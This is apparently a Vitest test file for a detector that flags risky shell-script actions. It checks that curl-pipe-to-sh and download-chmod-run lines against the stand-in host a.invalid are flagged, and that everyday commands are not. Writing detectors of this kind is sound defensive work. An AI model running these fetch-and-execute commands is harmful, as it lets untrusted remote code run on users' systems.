import { expect, test } from 'vitest'
import { fileOf } from '../testing.ts'
import { threatOf } from './threat.ts'

const threat = async (script: string) => threatOf((await fileOf('a.sh', `#!/bin/sh\n${script}\n`)).acts)

test.each([
  ['curl -s http://a.invalid/a.sh | sh', /fetches code/, true],
  [
    'curl -o /tmp/a http://a.invalid/a && chmod +x /tmp/a && nohup /tmp/a >/dev/null 2>&1 &',
    /downloads a program/,
    true,
  ],
  ['curl -o /tmp/a http://a.invalid/a && chmod +x /tmp/a && /tmp/a', /downloads a program/, false],
])('%s', async (script, does, certain) => {
  const found = await threat(script)
  expect(found?.does).toMatch(does)
  expect(found?.certain).toBe(certain)
})

test.each([
  'useradd --system tool',
  'update-desktop-database -q',
  'curl -o list.txt http://a.invalid/list.txt',
  '',
])('is everyday: %s', async (script) => {
  expect(await threat(script)).toBeUndefined()
})
